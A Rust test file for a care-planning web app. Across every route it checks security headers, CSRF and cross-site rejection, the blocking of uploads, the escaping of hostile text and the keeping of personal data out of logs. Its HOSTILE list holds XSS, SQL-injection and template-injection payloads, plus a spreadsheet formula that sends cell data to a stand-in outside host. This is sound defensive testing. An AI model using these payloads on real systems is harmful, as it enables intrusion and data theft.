//! The web's own dangers, one by one. Each walks every route that is declared, so that a page of
//! tomorrow is in it too.
//!
//! - Nothing is written into a page that a browser would run, and the policy that forbids it is on
//!   every answer; no answer about anybody may be kept by a browser.
//! - Signing out and leaving end the session on the server and ask the browser to forget.
//! - A form without its session's token changes nothing, wherever it is sent; so does one that
//!   began on another site, token or not.
//! - Nothing can be uploaded: no route takes a body that is no form. Every answer is of a known
//!   sort; whoever adds a spreadsheet or a file adds its own test here.
//! - Hostile text in somebody's own words stays text, on the screen and in the plan that is printed.
//! - Nothing of a person is in the log, at any level, or in the page of an error.

use crate::harness::{Browser, Cast, Maker, World, start};
use crate::marks::{MARKS, Marked, mark};
use crate::mine::{badger, id, put};
use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use kith_care::Identity;
use kith_domain::area::Area;
use kith_domain::contact::{Channel, SafeContact, SafeWay};
use kith_domain::id::{PersonId, SupporterId};
use kith_domain::organisation::WorkRole;
use kith_domain::person::Person;
use kith_domain::plan::{Part, PlanSection};
use kith_web::app::For;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::sync::{Arc, Mutex};
use tower::ServiceExt;
use uuid::Uuid;

const OUR_SITE: &str = "http://localhost:8417";

/// A path with ids that belong to somebody, one for each parameter.
fn filled(pattern: &str, marked: &Marked) -> String {
    let mut path = pattern.to_owned();
    while let Some((from, rest)) = path.clone().split_once('{') {
        let (name, rest) = rest.split_once('}').expect("a parameter ends");
        let value = match (marked.ids.get(name), name) {
            (Some(ids), _) => ids[0].to_string(),
            (None, "part") => "about_me".into(),
            (None, "area") => "money".into(),
            (None, "act") => "accept".into(),
            (None, "change") => "next".into(),
            (None, "what") => "everything".into(),
            (None, "line" | "number") => "1".into(),
            (None, "role") => "navigator".into(),
            (None, "token") => "0".repeat(43),
            (None, _) => Uuid::now_v7().to_string(),
        };
        path = format!("{from}{value}{rest}");
    }
    path
}

/// Somebody for each sort of page.
struct Visitors {
    person: Browser,
    supporter: Browser,
    holder: Browser,
    by_role: BTreeMap<&'static str, Browser>,
}

impl Visitors {
    async fn of(world: &World, marked: &Marked) -> Visitors {
        let mut by_role = BTreeMap::new();
        let mut tx = world.kith.store().write().await.unwrap();
        let mut m = Maker { tx: &mut tx, at: start().plus_days(-30) };
        let mut casts: Vec<Cast> = Vec::new();
        for role in WorkRole::ALL {
            let (org, team) = (world.aisha.organisation, world.aisha.team);
            casts.push(m.worker(&format!("Somebody {}", role.code()), org, team, *role).await);
        }
        tx.commit().await.unwrap();
        for cast in casts {
            by_role.insert(cast.role.code(), world.worker(cast).await);
        }
        let session = async |identity: Identity| {
            let session = world.kith.begin_session(&identity, None, 2, world.now()).await.unwrap();
            Browser { cookie: Some(session.cookie), ..world.browser() }
        };
        let supporter = SupporterId(Uuid::now_v7());
        let holder = Identity::LinkHolder {
            organisation: world.garden_org,
            referral: marked.garden,
            name: Some("Gwen".into()),
        };
        Visitors {
            person: world.person(marked.pat).await,
            supporter: session(Identity::Supporter { supporter, person: marked.pat }).await,
            holder: session(holder).await,
            by_role,
        }
    }

    fn for_page(&self, audience: For) -> Option<Browser> {
        Some(match audience {
            For::Anyone => return None,
            For::Workers => self.by_role["navigator"].clone(),
            For::Roles(roles) => self.by_role[roles[0].code()].clone(),
            For::People => self.person.clone(),
            For::Supporters => self.supporter.clone(),
            For::LinkHolders => self.holder.clone(),
        })
    }
}

/// What a browser would run: a script in the page, a style in it, a handler on a tag, an address
/// that is code.
fn what_runs(body: &str) -> Option<String> {
    let lower = body.to_lowercase();
    for part in lower.split("<script").skip(1) {
        let tag = part.split('>').next().unwrap_or_default();
        if !tag.contains(" src=\"/assets/") {
            return Some(format!("<script{tag}>"));
        }
    }
    for tag in lower.split('<').skip(1).filter_map(|t| t.split('>').next()) {
        let handler = tag.split_whitespace().skip(1).any(|a| {
            let name = a.split('=').next().unwrap_or_default();
            a.contains('=')
                && name.len() > 2
                && name.starts_with("on")
                && name[2..].bytes().all(|b| b.is_ascii_lowercase())
        });
        if handler || tag.starts_with("style") || tag.contains(" style=") || tag.contains("=\"javascript:") {
            return Some(tag.chars().take(200).collect());
        }
    }
    None
}

#[test]
fn what_a_browser_would_run_is_seen() {
    for bad in [
        "<script>x()</script>",
        "<script src=\"https://other.example/x.js\"></script>",
        "<p onclick=\"x()\">",
        "<p style=\"color:red\">",
        "<style>p{}</style>",
        "<a href=\"javascript:x()\">",
    ] {
        assert!(what_runs(bad).is_some(), "{bad}");
    }
    assert_eq!(
        what_runs("<script src=\"/assets/1/a.js\" defer></script><p class=\"one\">onclick=</p>"),
        None
    );
}

#[tokio::test]
async fn no_page_carries_anything_to_run_and_none_is_kept() {
    let world = World::new().await;
    let marked = mark(&world).await;
    let visitors = Visitors::of(&world, &marked).await;
    let routes = kith_web::pages::routes();
    let (mut asked, mut shown_ok, mut sorts) = (0, 0, BTreeSet::new());
    for route in routes.declared().iter().filter(|r| r.method == Method::GET) {
        let path = filled(route.path, &marked);
        let aisha = world.worker(world.aisha).await;
        for mut browser in
            [visitors.for_page(route.audience), Some(world.browser()), Some(aisha)].into_iter().flatten()
        {
            let shown = browser.once(&Method::GET, &path, "").await;
            let csp = shown.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
            assert!(csp.contains("default-src 'self'") && !csp.contains("unsafe"), "{path}: {csp}");
            assert_eq!(shown.headers[header::CACHE_CONTROL], "no-store", "{path} may be kept");
            assert_eq!(shown.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{path}");
            assert_eq!(what_runs(&shown.body), None, "{path}");
            let sort = shown.headers.get(header::CONTENT_TYPE).and_then(|v| v.to_str().ok());
            sorts.extend(sort.map(str::to_owned));
            assert!(!shown.headers.contains_key(header::CONTENT_DISPOSITION), "{path} is a file");
            asked += 1;
            shown_ok += usize::from(shown.status == StatusCode::OK);
        }
    }
    assert!(asked > 200 && shown_ok > 80, "{asked} asked, {shown_ok} shown");
    assert_eq!(
        sorts,
        BTreeSet::from(["text/html; charset=utf-8".to_owned()]),
        "a new sort of answer: test it here"
    );
}

#[tokio::test]
async fn leaving_and_signing_out_end_the_session_and_ask_the_browser_to_forget() {
    let world = World::new().await;
    let (_, person) = badger(&world).await;
    for (way, what) in
        [("/sign-out", &["cache", "storage"][..]), ("/leave", &["cache", "cookies", "storage"])]
    {
        for mut browser in [world.person(person).await, world.worker(world.aisha).await] {
            let old = browser.cookie.clone();
            let page = browser.get("/help").await;
            let filling = browser.fill(&page, way, &[]);
            let body: Vec<String> = filling.fields.iter().map(|(n, v)| format!("{n}={v}")).collect();
            let gone = browser.once(&Method::POST, way, &body.join("&")).await;
            assert!(gone.status.is_redirection(), "{way}: {}", gone.status);
            let cleared = gone.headers["clear-site-data"].to_str().unwrap().to_owned();
            assert!(what.iter().all(|w| cleared.contains(w)), "{way}: {cleared}");
            assert_eq!(browser.cookie, None, "{way} takes the cookie back");
            // Going back with the old cookie opens nothing.
            let mut back = Browser { cookie: old, ..world.browser() };
            let again = back.get(&format!("/people/{person}")).await;
            // Where everybody is made up, signing in is choosing who to be.
            let asked = again.path.starts_with("/sign-in") || again.path == "/demo";
            assert!(asked && !again.body.contains("Badger"), "{way} ends on {}", again.path);
        }
    }
}

async fn raw(
    world: &World,
    browser: &Browser,
    path: &str,
    kind: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> StatusCode {
    let mut request = Request::builder()
        .method(Method::POST)
        .uri(path)
        .header(header::HOST, "localhost:8417")
        .header(header::CONTENT_TYPE, kind)
        .header(header::COOKIE, format!("kith_session={}", browser.cookie.clone().unwrap_or_default()));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let request = request.body(Body::from(body.to_owned())).unwrap();
    world.router.clone().oneshot(request).await.unwrap().status()
}

const FORM: &str = "application/x-www-form-urlencoded";

#[tokio::test]
async fn a_form_without_its_token_or_from_another_site_changes_nothing() {
    let world = World::new().await;
    let marked = mark(&world).await;
    let visitors = Visitors::of(&world, &marked).await;
    let before = journal(&world).await;
    let routes = kith_web::pages::routes();
    let mut asked = 0;
    for route in routes.declared().iter().filter(|r| r.method == Method::POST) {
        let path = filled(route.path, &marked);
        let visitor = visitors.for_page(route.audience);
        let browser = visitor.clone().unwrap_or(world.browser());
        // From another site: whatever it carries, and whoever it is for.
        let other = [("origin", "https://other.example")];
        assert_eq!(raw(&world, &browser, &path, FORM, &other, "a=1").await, StatusCode::FORBIDDEN, "{path}");
        let cross = [("sec-fetch-site", "cross-site"), ("origin", OUR_SITE)];
        assert_eq!(raw(&world, &browser, &path, FORM, &cross, "a=1").await, StatusCode::FORBIDDEN, "{path}");
        // From our own site, with no token, a made-up one, and that of somebody else.
        if visitor.is_none() {
            continue;
        }
        let mut stranger = world.worker(world.tony).await;
        let theirs = token(&mut stranger).await;
        for given in ["", "_csrf=abc", &format!("_csrf={theirs}")] {
            let got = raw(&world, &browser, &path, FORM, &[("origin", OUR_SITE)], given).await;
            assert_eq!(got, StatusCode::CONFLICT, "{path} with {given:?}");
            asked += 1;
        }
    }
    assert!(asked > 200, "{asked} are no walk");
    assert_eq!(journal(&world).await, before, "something was changed");
}

async fn token(browser: &mut Browser) -> String {
    let page = browser.get("/help").await;
    page.form("/sign-out").into_iter().find(|(n, _)| n == "_csrf").map(|(_, v)| v).expect("a token")
}

/// How many journal entries there are of the people and the place.
async fn journal(world: &World) -> i64 {
    let mut tx = world.kith.store().read().await.unwrap();
    tx.list_chains().await.unwrap().iter().map(|(.., head)| head.number).sum()
}

#[tokio::test]
async fn nothing_can_be_uploaded() {
    let world = World::new().await;
    let marked = mark(&world).await;
    let visitors = Visitors::of(&world, &marked).await;
    let part = "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.html\"\r\n\
                Content-Type: text/html\r\n\r\n<script>x()</script>\r\n--x--\r\n";
    let routes = kith_web::pages::routes();
    for route in routes.declared().iter().filter(|r| r.method == Method::POST) {
        // Leaving reads no body at all.
        if route.path == "/leave" {
            continue;
        }
        let browser = visitors.for_page(route.audience).unwrap_or(world.browser());
        let path = filled(route.path, &marked);
        for kind in ["multipart/form-data; boundary=x", "application/json", "text/html"] {
            let got = raw(&world, &browser, &path, kind, &[("origin", OUR_SITE)], part).await;
            assert_eq!(got, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{path} takes {kind}");
        }
    }
}

/// Words as somebody hostile would write them into a plan: for a page, a spreadsheet, a printer.
const HOSTILE: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'); DROP TABLE record; --",
    "</textarea></p></main><h1>Kith</h1>",
    "{{ 7 * 7 }}{% raw %}",
    "=HYPERLINK(\"https://other.example/\"&A1)",
    "[a](javascript:alert(1)) javascript:alert(1)",
    "%!PS-Adobe-3.0 <</Type/Action/S/JavaScript>>",
    "&lt;b&gt; &#60;i&#62;",
];

#[tokio::test]
async fn hostile_text_stays_text_on_the_screen_and_on_paper() {
    let world = World::new().await;
    let (mut aisha, person) = badger(&world).await;
    let words = HOSTILE.join("\n");
    for part in [Part::AboutMe, Part::Matters] {
        let section = PlanSection { words: words.clone(), ..PlanSection::new(part, None) };
        put(&world, person, id(), &section).await;
    }
    let section = PlanSection { words: words.clone(), ..PlanSection::new(Part::Area, Some(Area::Money)) };
    put(&world, person, id(), &section).await;
    paper_is_safe(&world, person).await;
    let mut own = world.person(person).await;
    let shown = [
        own.get("/mine/plan").await,
        own.get("/mine/plan/print").await,
        aisha.get(&format!("/people/{person}")).await,
        aisha.get(&format!("/people/{person}/plan/matters")).await,
        aisha.get(&format!("/people/{person}/plan/print")).await,
    ];
    // Here the sections stand by name and how far they are, without their words.
    let sections = aisha.get(&format!("/people/{person}/plan")).await;
    sections.is(StatusCode::OK);
    assert_eq!(what_runs(&sections.body), None, "{}", sections.path);
    for page in shown {
        page.is(StatusCode::OK);
        assert_eq!(what_runs(&page.body), None, "{}", page.path);
        for word in HOSTILE {
            let inside = page.text().contains(&word.split_whitespace().collect::<Vec<_>>().join(" "));
            assert!(inside, "{} lost {word:?} of somebody's words:\n{}", page.path, page.text());
        }
        assert_eq!(page.body.matches("<main").count(), 1, "{}", page.path);
        assert_eq!(page.body.matches("<h1").count(), 1, "{}", page.path);
        assert!(!page.body.contains("href=\"javascript"), "{}", page.path);
    }
}

pub(crate) async fn paper_is_safe(world: &World, person: PersonId) {
    let who = world.principal(world.aisha).await;
    let mut look = world.kith.look(&who).await.unwrap();
    let about = look.about(person).await.unwrap();
    let old = look.person(&about).unwrap();
    look.finish().await.unwrap();
    let mut new: Person = old.value.clone();
    new.safe_contact = SafeContact {
        asked: Some(world.now()),
        ways: vec![SafeWay {
            channel: Channel::Phone,
            detail: "07700 900123".into(),
            voicemail_safe: Some(true),
            hours: None,
            shared: false,
            note: None,
        }],
        paper_safe: Some(true),
        must_not_know: Vec::new(),
        name_service_ok: false,
    };
    let mut tx = world.kith.store().write().await.unwrap();
    tx.change(&crate::mine::writing(world), "safe contact", &old.meta, &new).await.unwrap();
    tx.commit().await.unwrap();
}

/// Everything that is logged, at every level.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn nothing_of_a_person_is_in_the_log_or_on_the_page_of_an_error() {
    let log = Log::default();
    let into = log.clone();
    let watch = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_ansi(false)
        .with_writer(move || into.clone())
        .finish();
    let _watching = tracing::subscriber::set_default(watch);
    let world = World::new().await;
    let marked = mark(&world).await;
    let visitors = Visitors::of(&world, &marked).await;
    // What the store is given in making the marks is not what pages log.
    let mut aisha = world.worker(world.aisha).await;
    let mut own_token = token(&mut aisha).await;
    let mut secrets = vec![own_token.clone(), aisha.cookie.clone().expect("a session")];
    let routes = kith_web::pages::routes();
    for route in routes.declared() {
        let path = filled(route.path, &marked);
        let body =
            format!("_csrf={own_token}&_submission={}&name=mk-called-7q1&words=mk-note-7q3", Uuid::now_v7());
        let before = aisha.cookie.clone();
        aisha.once(&route.method, &path, &body).await;
        // Signing out is one of the routes: the others are walked signed in all the same.
        if aisha.cookie != before {
            aisha = world.worker(world.aisha).await;
            own_token = token(&mut aisha).await;
            secrets.extend([own_token.clone(), aisha.cookie.clone().expect("a session")]);
        }
        if let Some(mut other) = visitors.for_page(route.audience).filter(|_| route.method == Method::GET) {
            other.once(&Method::GET, &path, "").await;
        }
    }
    tracing::warn!("the end of the walk");
    let text = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
    assert!(text.contains("the end of the walk"), "the log is read");
    for mark in MARKS {
        let line = text.lines().find(|l| l.contains(mark.text));
        assert_eq!(line, None, "{} is in the log", mark.text);
    }
    for secret in &secrets {
        assert!(!text.contains(secret.as_str()), "a token or a session is in the log");
    }
}
